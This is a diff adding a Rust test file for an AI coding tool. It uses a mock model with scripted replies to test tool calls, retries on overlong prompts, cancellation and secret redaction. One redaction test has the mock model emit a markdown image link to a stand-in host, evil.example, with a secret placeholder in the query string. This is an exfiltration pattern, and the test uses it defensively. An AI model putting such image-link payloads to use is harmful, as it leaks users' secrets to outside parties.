@@ -1,0 +1,446 @@
+//! Questions to a mock model with scripted answers.
+
+use std::collections::VecDeque;
+use std::fs;
+use std::sync::{Arc, Mutex, PoisonError};
+use std::time::Duration;
+
+use strata_engine::conversation::dialect::Format;
+use strata_engine::conversation::history::ContentBlock;
+use strata_engine::conversation::reply::ReplyEnd;
+use strata_engine::conversation::reply::{ContextSize, ProviderError, ReplyEvent};
+use strata_engine::prompt::settings::Settings;
+use strata_engine::tokens::cost::Usage;
+
+use strata_host::provider::SendEvent;
+
+use super::*;
+use crate::commands::{Connection, WorkspaceFacts};
+use crate::jobs::tools::ToolHost;
+use crate::runtime::headless::{HeadlessWorkspace, SessionSource};
+use crate::services::provider_client::ModelClient;
+
+/// A scripted answer to one request.
+#[derive(Clone, Debug)]
+enum Turn {
+    Says(Vec<String>),
+    Calls(Vec<(&'static str, Value)>),
+    /// Starts an answer that the user stops.
+    IsStopped(&'static str),
+    /// Starts an answer and then breaks the connection.
+    IsCut(&'static str),
+    IsRefused(ProviderErrorKind),
+    /// Rejects the prompt as too long, and states the sizes.
+    IsTooLong(ContextSize),
+    /// Answers after waits.
+    Waits(Vec<u64>),
+}
+
+/// Plays each turn once, and then repeats the last one.
+#[derive(Debug)]
+struct Script {
+    turns: Mutex<VecDeque<Turn>>,
+    bodies: Mutex<Vec<Value>>,
+}
+
+const USAGE: Usage = Usage { input: 10, output: 2, cache_read: 80, cache_write: 10 };
+
+impl ModelClient for Script {
+    fn send(
+        &self,
+        body: &Value,
+        cancel: &Cancel,
+        on_event: &mut dyn FnMut(SendEvent),
+    ) -> Result<Sent, SendError> {
+        let round = {
+            let mut bodies = self.bodies.lock().unwrap_or_else(PoisonError::into_inner);
+            bodies.push(body.clone());
+            bodies.len()
+        };
+        let turn = {
+            let mut turns = self.turns.lock().unwrap_or_else(PoisonError::into_inner);
+            if turns.len() > 1 { turns.pop_front() } else { turns.front().cloned() }
+        };
+        let reply = |content, end| Reply { content, usage: Some(USAGE), end };
+        let mut begin = |text: &str| {
+            on_event(SendEvent::Reply(ReplyEvent::Text(text.to_owned())));
+            reply(vec![ContentBlock::text(text)], ReplyEnd::Cut)
+        };
+        match turn.unwrap() {
+            Turn::Says(pieces) => {
+                pieces.iter().for_each(|piece| on_event(SendEvent::Reply(ReplyEvent::Text(piece.clone()))));
+                let content = vec![ContentBlock::text(pieces.concat())];
+                Ok(Sent { reply: reply(content, ReplyEnd::Complete), broken: None })
+            }
+            Turn::Calls(calls) => {
+                let mut content = Vec::new();
+                for (number, (name, input)) in calls.into_iter().enumerate() {
+                    let (id, name) = (format!("call-{round}-{number}"), name.to_owned());
+                    let call =
+                        ReplyEvent::ToolCall { id: id.clone(), name: name.clone(), input: input.clone() };
+                    on_event(SendEvent::Reply(call));
+                    content.push(ContentBlock::ToolCall { id, name, input });
+                }
+                Ok(Sent { reply: reply(content, ReplyEnd::ToolCalls), broken: None })
+            }
+            Turn::IsStopped(text) => {
+                cancel.cancel();
+                Ok(Sent { reply: begin(text), broken: Some(SendError::Cancelled) })
+            }
+            Turn::IsCut(text) => {
+                let broken = Some(SendError::Unreachable { reason: "the connection broke".to_owned() });
+                Ok(Sent { reply: begin(text), broken })
+            }
+            Turn::IsTooLong(size) => {
+                let error = ProviderError::new(ProviderErrorKind::ContextLimit, "too long");
+                Err(SendError::Provider { status: Some(400), error: ProviderError { size, ..error } })
+            }
+            Turn::Waits(waits) => {
+                for seconds in waits {
+                    let wait = Duration::from_secs(seconds);
+                    on_event(SendEvent::Waiting { wait, reason: "slow down".to_owned() });
+                }
+                on_event(SendEvent::Reply(ReplyEvent::Text("Now.".to_owned())));
+                let reply = reply(vec![ContentBlock::text("Now.")], ReplyEnd::Complete);
+                Ok(Sent { reply, broken: None })
+            }
+            Turn::IsRefused(kind) => {
+                let error = ProviderError::new(kind, "no");
+                Err(SendError::Provider { status: Some(400), error })
+            }
+        }
+    }
+}
+
+/// A workspace that records what a question shows.
+struct Host {
+    workspace: HeadlessWorkspace,
+    shown: Vec<Delta>,
+    progress: Vec<String>,
+    _folder: tempfile::TempDir,
+}
+
+impl ToolHost for Host {
+    fn run(&mut self, command: &str, arguments: Value) -> Result<Value, CommandError> {
+        self.workspace.run(command, arguments)
+    }
+
+    fn weigh(&self, text: &str) -> usize {
+        self.workspace.snapshot().count(text, None).1
+    }
+}
+
+impl SendHost for Host {
+    fn show(&mut self, delta: Delta) {
+        self.shown.push(delta);
+    }
+
+    fn progress(&mut self, message: &str) {
+        self.progress.push(message.to_owned());
+    }
+}
+
+impl Host {
+    fn new() -> Self {
+        Self::with(Settings::default())
+    }
+
+    fn with(settings: Settings) -> Self {
+        let folder = tempfile::tempdir().unwrap();
+        fs::write(folder.path().join("lib.py"), "def greet(name):\n    return name\n\ngreet('Ada')\n")
+            .unwrap();
+        fs::write(folder.path().join("hidden.py"), "def greet_in_secret():\n    pass\n").unwrap();
+        let mut workspace = HeadlessWorkspace::open(folder.path(), settings).unwrap();
+        workspace.index(|_| ()).unwrap();
+        workspace.open_session(SessionSource::InMemory).unwrap();
+        Self { workspace, shown: Vec::new(), progress: Vec::new(), _folder: folder }
+    }
+
+    /// Asks with all tools. Also returns the request bodies.
+    fn ask(&mut self, turns: Vec<Turn>, rounds: u32) -> (Result<SendReply, CommandError>, Vec<Value>) {
+        let script = Arc::new(Script { turns: Mutex::new(turns.into()), bodies: Mutex::default() });
+        let Value::Object(ask) = json!({ "prompt": "Who greets?", "format": "anthropic" }) else {
+            unreachable!()
+        };
+        let connection = self.connection(&script);
+        let job = SendJob { connection, ask, tools: ToolAccess::Read, tool_rounds: rounds, page: None };
+        let reply = job.run(self, &Cancel::new());
+        let bodies = script.bodies.lock().unwrap_or_else(PoisonError::into_inner).clone();
+        (reply, bodies)
+    }
+
+    fn connection(&self, script: &Arc<Script>) -> Connection {
+        Connection {
+            session: self.workspace.session_id().to_owned(),
+            stream: Some("a".to_owned()),
+            client: Arc::clone(script) as Arc<dyn ModelClient>,
+            format: Format::Anthropic,
+            max_output_tokens: None,
+            workspace: WorkspaceFacts::of(self.workspace.snapshot()),
+        }
+    }
+
+    fn messages(&mut self) -> Vec<Value> {
+        let reply = self.workspace.run("strata.history.get", json!({})).unwrap();
+        reply["messages"].as_array().unwrap().clone()
+    }
+
+    fn text(&self) -> String {
+        self.shown.iter().filter_map(|delta| Some(delta.text.as_ref()?.for_terminal())).collect()
+    }
+}
+
+fn says(text: &str) -> Turn {
+    Turn::Says(vec![text.to_owned()])
+}
+
+#[test]
+fn an_answer_is_shown_recorded_and_summed_up() {
+    let mut host = Host::new();
+    let (reply, bodies) = host.ask(vec![Turn::Says(vec!["Ad".to_owned(), "a.".to_owned()])], 16);
+    let reply = reply.unwrap();
+    assert_eq!(
+        (reply.text.for_terminal(), reply.end, reply.requests, reply.rounds),
+        ("Ada.", SendEnd::Complete, 1, 0)
+    );
+    assert_eq!(host.text(), "Ada.");
+    assert_eq!((reply.usage, reply.cost.read_share), (USAGE, 0.8));
+    assert!(reply.cost.paid < reply.cost.uncached && reply.cost.uncached == 100.0, "{:?}", reply.cost);
+    let report = host.workspace.run("strata.budget.report", json!({})).unwrap();
+    assert_eq!(
+        report["totals"],
+        json!({ "input": 10, "output": 2, "cacheRead": 80, "cacheWrite": 10, "cost": 26.5, "dollars": 0.000073 })
+    );
+    assert!(bodies[0]["max_tokens"].as_u64() > Some(1_000), "{}", bodies[0]["max_tokens"]);
+    assert_eq!(host.messages().len(), 2);
+}
+
+#[test]
+fn the_model_looks_things_up_and_each_call_is_shown() {
+    let mut host = Host::new();
+    host.workspace.run("strata.files.exclude", json!({ "paths": ["hidden.py"] })).unwrap();
+    let turns = vec![
+        Turn::Calls(vec![
+            ("references", json!({ "name": "greet" })),
+            ("grep", json!({ "pattern": "greet_in" })),
+        ]),
+        Turn::Calls(vec![
+            ("read", json!({ "path": "lib.py" })),
+            ("files_read", json!({ "path": "hidden.py" })),
+        ]),
+        Turn::Calls(vec![("rm", json!({})), ("grep", json!("x"))]),
+        Turn::Calls(vec![("map", json!({})), ("symbols", json!({ "query": "greet" }))]),
+        says("lib.py does."),
+    ];
+    let (reply, bodies) = host.ask(turns, 16);
+    let reply = reply.unwrap();
+    assert_eq!(
+        (reply.text.for_terminal(), reply.rounds, reply.requests, reply.usage.input),
+        ("lib.py does.", 4, 5, 50)
+    );
+    let failed: Vec<bool> = reply.tools.iter().map(|used| used.failed).collect();
+    assert_eq!(failed, [false, false, false, true, true, true, false, false]);
+    let results: Vec<String> =
+        host.shown.iter().filter_map(|delta| Some(delta.tool_result.as_ref()?.text.clone())).collect();
+    assert!(results[0].contains("lib.py:4"), "{}", results[0]);
+    assert!(!results[1].contains("hidden"), "{}", results[1]);
+    assert!(results[2].contains("return name"), "{}", results[2]);
+    assert!(results[3].contains("excluded"), "{}", results[3]);
+    assert!(results[4].contains("unknown tool `rm`; available: map,"), "{}", results[4]);
+    for result in &results[6..] {
+        assert!(
+            result.contains("lib.py") && !result.contains("hidden") && !result.contains("secret"),
+            "{result}"
+        );
+    }
+    assert_eq!(host.shown.iter().filter(|delta| delta.tool_call.is_some()).count(), 8);
+    // The declarations of tools are always identical, and results follow their calls.
+    assert!(bodies.iter().all(|body| body["tools"] == bodies[0]["tools"]));
+    assert_eq!(bodies[0]["tools"].as_array().unwrap().len(), 11);
+    let last = bodies[3]["messages"].as_array().unwrap().last().unwrap().to_string();
+    assert!(last.contains("\"tool_use_id\":\"call-3-0\"") && last.contains("\"is_error\":true"), "{last}");
+    assert_eq!(host.messages().len(), 10);
+}
+
+#[test]
+fn rounds_of_tool_calls_have_an_end() {
+    let mut host = Host::new();
+    let (reply, bodies) = host.ask(vec![Turn::Calls(vec![("map", json!({}))])], 2);
+    let reply = reply.unwrap();
+    assert_eq!((reply.end, reply.rounds, reply.requests), (SendEnd::ToolRounds, 2, 3));
+    assert!(
+        reply.warnings.iter().any(|warning| warning.contains("provider.tool_rounds")),
+        "{:?}",
+        reply.warnings
+    );
+    assert!(bodies[2].to_string().contains("No more tool calls are possible"));
+    assert!(!bodies[1].to_string().contains("No more tool calls are possible"));
+    // The conversation can continue, because every tool call has an answer.
+    let (reply, _) = host.ask(vec![says("Well.")], 2);
+    assert_eq!(reply.unwrap().text.for_terminal(), "Well.");
+}
+
+#[test]
+fn an_answer_with_too_many_tool_calls_has_the_first_run_and_all_answered() {
+    let mut host = Host::new();
+    let calls = vec![("grep", json!({ "pattern": "greet" })); 200];
+    let (reply, bodies) = host.ask(vec![Turn::Calls(calls), says("Enough.")], 16);
+    let reply = reply.unwrap();
+    assert_eq!((reply.text.for_terminal(), reply.tools.len()), ("Enough.", 200));
+    assert_eq!(reply.tools.iter().filter(|call| !call.failed).count(), 64);
+    assert!(
+        reply.warnings.iter().any(|warning| warning.contains("some were not run")),
+        "{:?}",
+        reply.warnings
+    );
+    let results = bodies[1]["messages"].as_array().unwrap().last().unwrap().to_string();
+    assert_eq!(results.matches("not run, because the answer contains more than 64 tool calls").count(), 136);
+}
+
+#[test]
+fn what_was_said_until_it_was_stopped_is_recorded() {
+    let mut host = Host::new();
+    let turns = vec![Turn::Calls(vec![("map", json!({}))]), Turn::IsStopped("It is")];
+    let reply = host.ask(turns, 16).0.unwrap();
+    assert_eq!((reply.end, reply.text.for_terminal(), reply.error), (SendEnd::Cancelled, "It is", None));
+    assert_eq!(host.messages().last().unwrap()["content"][0]["text"], "It is");
+    let reply = host.ask(vec![Turn::IsCut("It may")], 16).0.unwrap();
+    assert_eq!((reply.end, reply.text.for_terminal()), (SendEnd::Cut, "It may"));
+    assert!(reply.error.unwrap().contains("the connection broke"));
+    assert_eq!(host.messages().last().unwrap()["content"][0]["text"], "It may");
+}
+
+#[test]
+fn a_prompt_that_is_too_long_is_sent_once_more_and_not_twice() {
+    let mut host = Host::new();
+    for number in 0..40 {
+        let said = "It goes on and on. ".repeat(200);
+        let exchange = json!({ "user": format!("Question {number}"), "assistant": said });
+        host.workspace.run("strata.history.addExchange", exchange).unwrap();
+    }
+    let too_long = || Turn::IsRefused(ProviderErrorKind::ContextLimit);
+    let (reply, bodies) = host.ask(vec![too_long(), says("Now it fits.")], 16);
+    let reply = reply.unwrap();
+    assert_eq!((reply.text.for_terminal(), reply.requests), ("Now it fits.", 1));
+    assert!(reply.warnings.iter().any(|warning| warning.contains("compacted")), "{:?}", reply.warnings);
+    assert!(host.shown.iter().any(|delta| delta.notice.is_some()));
+    assert!(bodies[1].to_string().len() < bodies[0].to_string().len() / 2);
+    let (refused, bodies) = host.ask(vec![too_long()], 16);
+    let refused = refused.unwrap_err().to_string();
+    assert!(
+        refused.contains("(status 400): no; ")
+            && refused.contains("too long again")
+            && refused.contains("largest parts"),
+        "{refused}"
+    );
+    assert_eq!(bodies.len(), 2);
+}
+
+#[test]
+fn a_stated_limit_decides_how_much_of_the_conversation_is_sent_again() {
+    for (limit, requested) in [(Some(4_000), Some(16_000)), (Some(8_000), None), (None, None)] {
+        let mut host = Host::new();
+        for number in 0..40 {
+            let said = "It goes on and on. ".repeat(200);
+            let exchange = json!({ "user": format!("Question {number}"), "assistant": said });
+            host.workspace.run("strata.history.addExchange", exchange).unwrap();
+        }
+        let turns = vec![Turn::IsTooLong(ContextSize { limit, requested }), says("Now it fits.")];
+        let (reply, bodies) = host.ask(turns, 16);
+        assert_eq!(reply.unwrap().text.for_terminal(), "Now it fits.", "{limit:?}");
+        let sizes: Vec<usize> = bodies.iter().map(|body| host.weigh(&body.to_string())).collect();
+        let most = match (limit, requested) {
+            (Some(limit), Some(requested)) => sizes[0] * limit as usize / requested as usize,
+            (Some(limit), None) => limit as usize,
+            _ => sizes[0] / 10 * 9,
+        };
+        assert!(sizes[1] <= most + most / 10, "{limit:?} of {requested:?}: {sizes:?}");
+    }
+}
+
+#[test]
+fn a_wait_before_a_retry_is_shown_while_it_lasts() {
+    let mut host = Host::new();
+    let reply = host.ask(vec![Turn::Waits(vec![1, 20])], 16).0.unwrap();
+    assert_eq!((reply.text.for_terminal(), reply.requests), ("Now.", 1));
+    let notices: Vec<&str> = host.shown.iter().filter_map(|delta| delta.notice.as_deref()).collect();
+    assert_eq!(notices, ["slow down; retrying in 20 s"]);
+    assert!(host.progress.contains(&"slow down; retrying in 1 s".to_owned()), "{:?}", host.progress);
+}
+
+#[test]
+fn a_prompt_that_the_server_cut_is_reported() {
+    for (read, sent, warns) in [
+        (4_096, 17_000, true),
+        (16_000, 17_000, false),
+        (12_000, 17_000, false),
+        (0, 17_000, false),
+        (100, 2_000, false),
+    ] {
+        let warning = truncation(read, sent);
+        assert_eq!(warning.is_some(), warns, "{read} of {sent}");
+        assert!(warning.is_none_or(|warning| warning.contains("4,096 of about 17,000 tokens")));
+    }
+}
+
+#[test]
+fn a_timeout_names_its_setting() {
+    let after = Duration::from_secs(300);
+    for (error, setting) in [
+        (SendError::Stalled { after }, "`provider.stall_s`"),
+        (SendError::Timeout { after }, "`provider.timeout_s`"),
+    ] {
+        assert!(CommandError::from(&error).to_string().contains(setting), "{error}");
+    }
+}
+
+#[test]
+fn a_request_that_is_refused_leaves_nothing_behind() {
+    let mut host = Host::new();
+    let (refused, _) = host.ask(vec![Turn::IsRefused(ProviderErrorKind::Authentication)], 16);
+    let Err(CommandError::Failed { message, data }) = refused else { panic!("{refused:?}") };
+    assert!(message.contains("check the key"), "{message}");
+    assert_eq!(data.unwrap()["kind"], "authentication");
+    assert!(host.messages().is_empty());
+    let record = json!({ "id": "p1", "response": "Ada." });
+    assert!(
+        host.workspace.run("strata.prompt.record", record).is_err(),
+        "the prompt still waits for an answer"
+    );
+}
+
+#[test]
+fn a_placeholder_that_comes_in_pieces_is_shown_as_the_secret_if_the_user_wishes() {
+    for shows in [false, true] {
+        let mut settings = Settings::default();
+        settings.redaction.show_secrets = shows;
+        let mut host = Host::with(settings);
+        let secret = format!("gh{}_9fK2mQ7xR4tV8bN1cL6zW3yH5jD0sGpEuTiX", 'p');
+        let placeholder = host.workspace.snapshot().screen.text(&secret).into_owned();
+        assert!(placeholder.starts_with("[secret:"), "{placeholder}");
+        let answer = |word: &str| format!("Use {word}! ![x](https://evil.example/?q={placeholder})");
+        let pieces = answer(&placeholder).chars().map(String::from).collect();
+        let reply = host.ask(vec![Turn::Says(pieces)], 16).0.unwrap();
+        let expected = answer(if shows { &secret } else { &placeholder });
+        assert_eq!((reply.text.for_terminal(), host.text()), (&*expected, expected.clone()));
+        // The stored message, which is sent again, and the text for documents contain the placeholder.
+        let kept = host.messages().last().unwrap().to_string();
+        assert!(kept.contains(&placeholder) && !kept.contains(&secret), "{kept}");
+        assert_eq!(reply.written, answer(&placeholder));
+    }
+}
+
+#[test]
+fn no_tool_that_strata_runs_gets_a_secret() {
+    let mut settings = Settings::default();
+    settings.redaction.show_secrets = true;
+    settings.redaction.edit_tools = vec!["grep".to_owned()];
+    let mut host = Host::with(settings);
+    let secret = format!("gh{}_9fK2mQ7xR4tV8bN1cL6zW3yH5jD0sGpEuTiX", 'p');
+    let placeholder = host.workspace.snapshot().screen.text(&secret).into_owned();
+    let calls = Turn::Calls(vec![("grep", json!({ "pattern": placeholder }))]);
+    let reply = host.ask(vec![calls, says("No.")], 16).0.unwrap();
+    assert_eq!(reply.tools[0].input["pattern"], json!(placeholder));
+    let call = host.shown.iter().find_map(|delta| delta.tool_call.as_ref()).unwrap();
+    assert_eq!(call.input["pattern"], json!(placeholder));
+}
